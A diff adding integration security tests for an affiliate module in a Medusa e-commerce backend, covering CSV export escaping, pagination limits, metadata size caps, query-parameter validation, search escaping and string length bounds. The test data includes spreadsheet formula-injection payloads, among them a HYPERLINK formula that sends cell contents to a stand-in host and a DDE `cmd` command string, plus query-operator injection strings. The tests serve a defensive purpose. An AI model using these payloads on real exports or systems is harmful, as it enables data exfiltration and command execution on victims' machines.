@@ -1,0 +1,446 @@
+import { ContainerRegistrationKeys, Modules } from "@medusajs/framework/utils"
+import { medusaIntegrationTestRunner } from "@medusajs/test-utils"
+import { parse } from "csv-parse/sync"
+import { AFFILIATE_MODULE } from "../../src/modules/affiliate"
+import type AffiliateModuleService from "../../src/modules/affiliate/service"
+import { createAdminHeaders, type AdminHeaders } from "../helpers/admin"
+import { expectHttpError } from "../helpers/http"
+
+jest.setTimeout(120 * 1000)
+
+/** Every name, email, file and query parameter below comes from a stranger. */
+medusaIntegrationTestRunner({
+  testSuite: ({ api, getContainer }) => {
+    let admin: AdminHeaders
+    let service: AffiliateModuleService
+    let publishableKey: string
+
+    const storeHeaders = (token?: string) => ({
+      headers: {
+        "x-publishable-api-key": publishableKey,
+        ...(token ? { authorization: `Bearer ${token}` } : {}),
+      },
+    })
+
+    /** Public sign-up; returns the registration token, the affiliate and a token that carries it. */
+    const signUp = async (email: string, body: Record<string, unknown>) => {
+      const registered = (
+        await api.post("/auth/affiliate/emailpass/register", { email, password: "s3cret-pass" })
+      ).data.token as string
+      const created = await api.post("/store/affiliates", body, storeHeaders(registered))
+      const token = (await api.post("/auth/affiliate/emailpass", { email, password: "s3cret-pass" }))
+        .data.token as string
+      return { registered, token, affiliate: created.data.affiliate as { id: string } }
+    }
+
+    const createAffiliate = async (body: Record<string, unknown>) =>
+      (await api.post("/admin/affiliates", { status: "approved", ...body }, admin)).data
+        .affiliate as { id: string }
+
+    const commission = (affiliateId: string, i: number, extra: Record<string, unknown> = {}) => ({
+      affiliate_id: affiliateId,
+      order_id: `order_sec_${i}`,
+      currency_code: "eur",
+      base_amount: 10,
+      rate: 10,
+      amount: 1,
+      attribution: "link" as const,
+      ...extra,
+    })
+
+    const exportRows = async (query = "") => {
+      const { data } = await api.get(`/admin/affiliate-commissions/export${query}`, admin)
+      return parse(data as string, { columns: true }) as Record<string, string>[]
+    }
+
+    beforeEach(async () => {
+      admin = await createAdminHeaders(api, getContainer())
+      service = getContainer().resolve(AFFILIATE_MODULE)
+      publishableKey = (
+        await api.post("/admin/api-keys", { title: "Webshop", type: "publishable" }, admin)
+      ).data.api_key.token
+    })
+
+    describe("CSV export (formula injection)", () => {
+      it("escapes every text cell a spreadsheet would run, and keeps numbers numbers", async () => {
+        const hostile = [
+          `=HYPERLINK("http://x?"&A1,"Open")`,
+          `+cmd|' /C calc'!A0`,
+          "@SUM(1)",
+          "-1+1",
+        ]
+        const affiliates = []
+        for (const [i, name] of hostile.entries()) {
+          affiliates.push((await signUp(`hostile${i}@partners.test`, { name })).affiliate)
+        }
+        // Leading tab and carriage return, as a row written by other code could hold them.
+        const [tabbed] = await service.createAffiliates([
+          { name: "\t=1+2", email: "tab@partners.test", code: "TABBED" },
+        ])
+        await service.createAffiliateCommissions([
+          ...affiliates.map((affiliate, i) => commission(affiliate.id, i)),
+          commission(tabbed.id, 10, { reason: "\r=cmd()", status: "rejected" }),
+        ])
+        const [negative] = await service.listAffiliateCommissions({ order_id: "order_sec_0" })
+        await service.createAffiliateCommissionAdjustments([
+          { commission_id: negative.id, amount: -0.5, reason: "refund" as const, reference: "=refund()" },
+        ])
+
+        const rows = await exportRows()
+        expect(rows).toHaveLength(5)
+        const names = rows.map((row) => row.affiliate_name).sort()
+        expect(names).toEqual(
+          [...hostile, "\t=1+2"].map((name) => `'${name}`).sort()
+        )
+        expect(rows.find((row) => row.affiliate_code === "TABBED")!.reason).toBe("'\r=cmd()")
+        const first = rows.find((row) => row.order_id === "order_sec_0")!
+        // Negative amounts stay numbers a spreadsheet can add up.
+        expect(first.adjustments).toBe("-0.5")
+        expect(first.net_amount).toBe("0.5")
+        for (const row of rows) {
+          for (const cell of Object.values(row)) {
+            expect(cell).not.toMatch(/^[=+@\t\r]/)
+          }
+        }
+      })
+
+      it("returns every row exactly once across pages, even while the ledger grows", async () => {
+        const jane = await createAffiliate({ name: "Jane", email: "jane@aff.test", code: "JANE" })
+        const total = 1201
+        // Half the rows share one timestamp, so pages break ties by id.
+        const at = new Date(Date.now() - 3600 * 1000)
+        const created = await service.createAffiliateCommissions(
+          Array.from({ length: total }, (_, i) =>
+            commission(jane.id, i, i < 600 ? { created_at: at } : {})
+          )
+        )
+
+        // A commission credited while the export runs (after its first page).
+        const query = getContainer().resolve(ContainerRegistrationKeys.QUERY)
+        const graph = query.graph.bind(query)
+        let credited = false
+        const spy = jest.spyOn(query, "graph").mockImplementation((async (
+          ...args: Parameters<typeof query.graph>
+        ) => {
+          const result = await graph(...args)
+          if (!credited && args[0].entity === "affiliate_commission") {
+            credited = true
+            await service.createAffiliateCommissions([commission(jane.id, 5000)])
+          }
+          return result
+        }) as typeof query.graph)
+        const rows = await exportRows(`?affiliate_id=${jane.id}`).finally(() => spy.mockRestore())
+
+        const ids = rows.map((row) => row.id)
+        expect(new Set(ids).size).toBe(ids.length)
+        expect([...ids].sort()).toEqual(created.map(({ id }) => id).sort())
+      })
+    })
+
+    describe("customers lists (bounded work per request)", () => {
+      it("pages an affiliate's customers in the database, and caps limit", async () => {
+        const sam = await signUp("sam@partners.test", { name: "Sam" })
+        await api.post(`/admin/affiliates/${sam.affiliate.id}`, { status: "approved" }, admin)
+        const customers = await getContainer()
+          .resolve(Modules.CUSTOMER)
+          .createCustomers(
+            Array.from({ length: 28 }, (_, i) => ({
+              email: `buyer${i}@shop.test`,
+              first_name: `Buyer${i}`,
+            }))
+          )
+        const start = Date.now() - 100_000
+        // 25 connected (newest first: 24 … 0), 3 only referred by link.
+        await service.createAffiliateConnections(
+          customers.slice(0, 25).map((customer, i) => ({
+            affiliate_id: sam.affiliate.id,
+            customer_id: customer.id,
+            source: "admin" as const,
+            created_at: new Date(start + i * 1000),
+          }))
+        )
+        await service.createAffiliateOrderAttributions(
+          customers.slice(25).map((customer, i) => ({
+            order_id: `order_ref_${i}`,
+            affiliate_id: sam.affiliate.id,
+            method: "link" as const,
+            outcome: "credited" as const,
+            customer_id: customer.id,
+            created_at: new Date(start + i * 1000),
+          }))
+        )
+        const expected = [
+          ...customers.slice(0, 25).reverse(),
+          ...customers.slice(25).reverse(),
+        ].map(({ id }) => id)
+
+        const pages = async (url: string, headers: object) => {
+          const ids: string[] = []
+          for (const offset of [0, 10, 20]) {
+            const { data } = await api.get(`${url}?limit=10&offset=${offset}`, headers)
+            expect(data).toEqual(
+              expect.objectContaining({ count: 28, offset, limit: 10 })
+            )
+            ids.push(...data.customers.map((customer: { id: string }) => customer.id))
+          }
+          return ids
+        }
+        expect(await pages("/store/affiliates/me/customers", storeHeaders(sam.token))).toEqual(expected)
+        const adminIds = await pages(`/admin/affiliates/${sam.affiliate.id}/customers`, admin)
+        expect(adminIds).toEqual(expected)
+
+        const page = (await api.get(`/admin/affiliates/${sam.affiliate.id}/customers?limit=3&offset=24`, admin))
+          .data.customers
+        expect(page.map((c: { connection: unknown }) => c.connection === null)).toEqual([false, true, true])
+
+        await expectHttpError(
+          api.get("/store/affiliates/me/customers?limit=101", storeHeaders(sam.token)),
+          400,
+          /limit/
+        )
+        await expectHttpError(
+          api.get(`/admin/affiliates/${sam.affiliate.id}/customers?limit=100000`, admin),
+          400,
+          /limit/
+        )
+        const max = await api.get(`/admin/affiliates/${sam.affiliate.id}/customers?limit=100`, admin)
+        expect(max.data.customers).toHaveLength(28)
+      })
+    })
+
+    describe("metadata", () => {
+      const deep = (levels: number) => {
+        let value: Record<string, unknown> = { leaf: true }
+        for (let i = 0; i < levels; i++) {
+          value = { n: value }
+        }
+        return value
+      }
+
+      /** Sends the body already serialized: axios merges (recursively) what it is given. */
+      const postJson = (url: string, body: Record<string, unknown>, config: { headers: object }) =>
+        api.post(url, JSON.stringify(body), {
+          headers: { ...config.headers, "content-type": "application/json" },
+        })
+
+      it.each([
+        ["4,000 levels deep", deep(4000)],
+        ["6 levels deep", deep(5)],
+        ["over 8 kB", { blob: "x".repeat(9000) }],
+        ["a key of 201 characters", { ["k".repeat(201)]: 1 }],
+      ])("rejects metadata %s with a 400 everywhere, writing nothing", async (_, metadata) => {
+        const registered = (
+          await api.post("/auth/affiliate/emailpass/register", {
+            email: "meta@partners.test",
+            password: "s3cret-pass",
+          })
+        ).data.token as string
+        await expectHttpError(
+          postJson("/store/affiliates", { name: "Meta", metadata }, storeHeaders(registered)),
+          400,
+          /metadata/
+        )
+        await expectHttpError(
+          postJson("/admin/affiliates", { name: "Meta", email: "meta@aff.test", metadata }, admin),
+          400,
+          /metadata/
+        )
+        expect(await service.listAffiliates({})).toHaveLength(0)
+
+        const jane = await createAffiliate({ name: "Jane", email: "jane@aff.test", code: "JANE" })
+        await expectHttpError(postJson(`/admin/affiliates/${jane.id}`, { metadata }, admin), 400, /metadata/)
+        await expectHttpError(
+          postJson(
+            "/admin/affiliate-connections",
+            { affiliate_id: jane.id, customer: { email: "meta@shop.test" }, metadata },
+            admin
+          ),
+          400,
+          /metadata/
+        )
+        expect((await service.retrieveAffiliate(jane.id)).metadata).toBeNull()
+        expect(await service.listAffiliateConnections({})).toHaveLength(0)
+      })
+
+      it("accepts metadata within the limits", async () => {
+        const { data } = await api.post(
+          "/admin/affiliates",
+          { name: "Meta", email: "meta@aff.test", metadata: { ...deep(4), note: "x".repeat(7000) } },
+          admin
+        )
+        expect(data.affiliate.metadata.n.n.n.n).toEqual({ leaf: true })
+      })
+    })
+
+    describe("list parameters", () => {
+      const lists = [
+        "/admin/affiliates",
+        "/admin/affiliate-connections",
+        "/admin/affiliate-commissions",
+        "/admin/affiliates/:id/customers",
+        "/admin/affiliate-sync-runs",
+        "/store/affiliates/me/customers",
+        "/store/affiliates/me/commissions",
+      ]
+
+      it.each([
+        ["limit=-1", /limit/],
+        ["limit=101", /limit/],
+        ["limit=abc", /limit/],
+        ["offset=-5", /offset/],
+        ["order=password", /order/],
+        ["order=-nope", /order/],
+      ])("answers %s with a 400 naming the field on every list", async (params, message) => {
+        const sam = await signUp("sam@partners.test", { name: "Sam" })
+        for (const list of lists) {
+          const url = `${list.replace(":id", sam.affiliate.id)}?${params}`
+          const headers = list.startsWith("/store") ? storeHeaders(sam.token) : admin
+          const { data } = await expectHttpError(api.get(url, headers), 400)
+          expect([url, data.message]).toEqual([url, expect.stringMatching(message)])
+        }
+      })
+
+      it.each([
+        "created_at[$re]=.*",
+        "created_at[$like]=2020%",
+        "created_at[$gte]=not-a-date",
+        "created_at[$gte]=1",
+      ])("answers %s on the commissions list and export with a 400 naming created_at", async (params) => {
+        for (const url of ["/admin/affiliate-commissions", "/admin/affiliate-commissions/export"]) {
+          await expectHttpError(api.get(`${url}?${params}`, admin), 400, /created_at/)
+        }
+      })
+
+      it("still takes the date filters and orders the lists document", async () => {
+        const jane = await createAffiliate({ name: "Jane", email: "jane@aff.test", code: "JANE" })
+        await service.createAffiliateCommissions([commission(jane.id, 1)])
+        const since = new Date(Date.now() - 60_000).toISOString()
+        const { data } = await api.get(
+          `/admin/affiliate-commissions?created_at[$gte]=${since}&order=-amount&limit=100`,
+          admin
+        )
+        expect(data.count).toBe(1)
+        expect((await api.get("/admin/affiliates?order=-name", admin)).data.count).toBe(1)
+        expect((await api.get("/admin/affiliate-connections?order=created_at", admin)).status).toBe(200)
+      })
+    })
+
+    describe("search (q)", () => {
+      it("matches % and _ literally in the affiliates, connections and commissions lists", async () => {
+        const percent = await createAffiliate({ name: "100% Real", email: "real@aff.test", code: "REAL" })
+        const snake = await createAffiliate({ name: "snake_case", email: "snake@aff.test", code: "SNAKE" })
+        await createAffiliate({ name: "Plain", email: "plain@aff.test", code: "PLAIN" })
+        const names = async (q: string) =>
+          (await api.get(`/admin/affiliates?q=${encodeURIComponent(q)}`, admin)).data.affiliates
+            .map((a: { id: string }) => a.id)
+        expect(await names("%")).toEqual([percent.id])
+        expect(await names("_")).toEqual([snake.id])
+        expect(await names("\\")).toEqual([])
+
+        const customers = await getContainer()
+          .resolve(Modules.CUSTOMER)
+          .createCustomers([
+            { email: "pct@shop.test", first_name: "50%" },
+            { email: "under@shop.test", last_name: "o_neil" },
+            { email: "plain@shop.test", first_name: "Plain" },
+          ])
+        await service.createAffiliateConnections(
+          customers.map((customer) => ({
+            affiliate_id: percent.id,
+            customer_id: customer.id,
+            source: "admin" as const,
+          }))
+        )
+        await service.createAffiliateCommissions(
+          customers.map((customer, i) => commission(percent.id, i, { customer_id: customer.id }))
+        )
+        for (const [list, key] of [
+          ["/admin/affiliate-connections", "affiliate_connections"],
+          ["/admin/affiliate-commissions", "affiliate_commissions"],
+        ]) {
+          const found = async (q: string) =>
+            (await api.get(`${list}?q=${encodeURIComponent(q)}`, admin)).data[key].map(
+              (row: { customer_id: string }) => row.customer_id
+            )
+          expect(await found("%")).toEqual([customers[0].id])
+          expect(await found("_")).toEqual([customers[1].id])
+        }
+      })
+    })
+
+    describe("string bounds", () => {
+      const hugeEmail = `${"a".repeat(50_000)}@example.com`
+
+      it("rejects a 50 kB email when creating an affiliate", async () => {
+        await expectHttpError(
+          api.post("/admin/affiliates", { name: "Huge", email: hugeEmail }, admin),
+          400,
+          /email/
+        )
+        expect(await service.listAffiliates({})).toHaveLength(0)
+      })
+
+      it("rejects a 50 kB email when connecting by email", async () => {
+        const jane = await createAffiliate({ name: "Jane", email: "jane@aff.test", code: "JANE" })
+        await expectHttpError(
+          api.post(
+            "/admin/affiliate-connections",
+            { affiliate_id: jane.id, customer: { email: hugeEmail } },
+            admin
+          ),
+          400,
+          /email/
+        )
+        expect(await service.listAffiliateConnections({})).toHaveLength(0)
+      })
+
+      it("rejects an import file with a 50 kB email, naming the line and column", async () => {
+        await createAffiliate({ name: "Jane", email: "jane@aff.test", code: "JANE" })
+        const csv = ["customer_email,affiliate_code", "ok@shop.test,JANE", `${hugeEmail},JANE`].join("\n")
+        for (const dry_run of [true, false]) {
+          await expectHttpError(
+            api.post("/admin/affiliate-connections/import", { csv, dry_run }, admin),
+            400,
+            /line 3.*customer_email/
+          )
+        }
+        expect(await service.listAffiliateConnections({})).toHaveLength(0)
+        const [customers] = await getContainer()
+          .resolve(Modules.CUSTOMER)
+          .listAndCountCustomers({})
+        expect(customers).toHaveLength(0)
+      })
+
+      it("rejects over-long names, reasons, codes and searches", async () => {
+        const jane = await createAffiliate({ name: "Jane", email: "jane@aff.test", code: "JANE" })
+        const long = "x".repeat(5000)
+        await expectHttpError(
+          api.post("/admin/affiliates", { name: long, email: "n@aff.test" }, admin),
+          400,
+          /name/
+        )
+        await expectHttpError(
+          api.post(
+            "/admin/affiliate-connections",
+            { affiliate_id: jane.id, customer: { email: "c@shop.test", first_name: long } },
+            admin
+          ),
+          400,
+          /first_name/
+        )
+        await expectHttpError(
+          api.post(`/admin/affiliates/${jane.id}/promotions`, { codes: [long] }, admin),
+          400,
+          /codes/
+        )
+        await expectHttpError(api.get(`/admin/affiliates?q=${long}`, admin), 400, /q/)
+        await expectHttpError(api.get(`/admin/affiliate-connections?q=${long}`, admin), 400, /q/)
+        await expectHttpError(
+          api.get(`/admin/affiliate-connections?affiliate_id=${long}`, admin),
+          400,
+          /affiliate_id/
+        )
+      })
+    })
+  },
+})
